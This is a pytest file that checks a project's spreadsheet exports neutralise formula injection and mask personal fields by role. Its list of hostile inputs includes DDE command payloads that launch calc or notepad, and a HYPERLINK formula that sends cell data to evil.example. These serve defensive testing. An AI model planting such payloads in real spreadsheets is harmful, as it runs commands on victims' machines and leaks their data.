"""Exports: formula injection neutralised in .xlsx (string cells, quotePrefix) and .csv (apostrophe)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kgdesk.security.exports import (
    ExportError,
    Sheet,
    export_answer,
    export_quality,
    export_sheets,
    is_dangerous,
)
from kgdesk.security.permissions import MASK_TEXT, policy_for

HOSTILE = [
    "=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\t=cmd|' /C calc'!A0",
    "\r=HYPERLINK(\"http://x\")",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "  =1+1",
    "=cmd|' /C notepad'!'A1'",
]
SAFE = ["张三", "XMSQ0102", "1,234.5", "2026-03", "备注：a=b", "中-文"]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_is_dangerous() -> None:
    assert all(is_dangerous(v) for v in HOSTILE)
    assert not any(is_dangerous(v) for v in SAFE)
    assert not is_dangerous(-5) and not is_dangerous(None)


def test_xlsx_never_holds_a_formula(tmp_path: Path) -> None:
    path = export_sheets(
        tmp_path / "a.xlsx", [Sheet("结果", ["值", "数"], [[v, -3.5] for v in HOSTILE] + [[v, 1] for v in SAFE])]
    )
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(path).active
    assert ws is not None
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    nums = [row[1] for row in ws.iter_rows(min_row=2)]
    for cell, original in zip(cells[: len(HOSTILE)], HOSTILE, strict=True):
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value in (original, original.replace("\r", "\n"))  # the text as typed (XML reads CR as LF)
    for cell, original in zip(cells[len(HOSTILE) :], SAFE, strict=True):
        assert cell.value == original and not cell.quotePrefix
    assert nums[0].value == -3.5 and nums[0].data_type == "n"  # numbers stay numbers


def test_csv_gets_a_leading_apostrophe(tmp_path: Path) -> None:
    path = export_sheets(tmp_path / "a.csv", [Sheet("结果", ["值", "数"], [[v, -3.5] for v in HOSTILE] + [[v, 1] for v in SAFE])])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    values = [r[0] for r in rows[1:]]
    for got, original in zip(values[: len(HOSTILE)], HOSTILE, strict=True):
        assert got == "'" + original
    assert values[len(HOSTILE) :] == SAFE
    assert [r[1] for r in rows[1:3]] == ["-3.5", "-3.5"]  # a number is not neutralised


def test_answer_export(tmp_path: Path) -> None:
    doc = {
        "status": "answered",
        "answer": "=2+5 共 2 人",
        "value": ["张三（KWL1）", "=HYPERLINK(\"x\")"],
        "version": "v1",
        "citations": [{"template": "人员信息", "file": "人员信息.xlsx", "sheet": "数据", "row": 8}],
    }
    x = export_answer(tmp_path / "ans.xlsx", doc, question="@有多少人")
    wb = load_workbook(x)
    assert wb.sheetnames == ["回答", "结果", "引用"]
    assert "<f>" not in sheet_xml(x)
    c = export_answer(tmp_path / "ans.csv", doc)
    text = c.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "张三（KWL1）" in text




def test_quality_export_is_masked_for_the_role(tmp_path: Path) -> None:
    doc = {
        "version": "v1",
        "summary": {"files": 1, "problem_rows": 1},
        "files": [{
            "file": "人员信息.xlsx", "template": "人员信息",
            "file_issues": [],
            "problem_rows": [{
                "row": 5, "imported": True, "missing": [], "bad": ["联系电话"],
                "raw": {"姓名": "=张三", "联系电话": "13912345678", "身份证号码": "310101198001019999"},
                "issues": [{"code": "W_BAD_VALUE", "fields": ["联系电话"], "value": "13912345678",
                            "message": "「联系电话」的值「13912345678」无效"}],
            }],
        }],
        "references": [],
    }
    for suffix in (".xlsx", ".csv"):
        out = export_quality(tmp_path / f"q{suffix}", doc, policy_for("guest"))
        blob = out.read_bytes() if suffix == ".csv" else sheet_xml(out).encode()
        assert b"13912345678" not in blob and b"310101198001019999" not in blob
        assert MASK_TEXT.encode() in blob
    admin = export_quality(tmp_path / "admin.csv", doc, policy_for("admin"))
    text = admin.read_text(encoding="utf-8-sig")
    assert "13912345678" in text


def test_unsupported_suffix(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="不支持"):
        export_sheets(tmp_path / "a.txt", [Sheet("x", ["a"], [])])
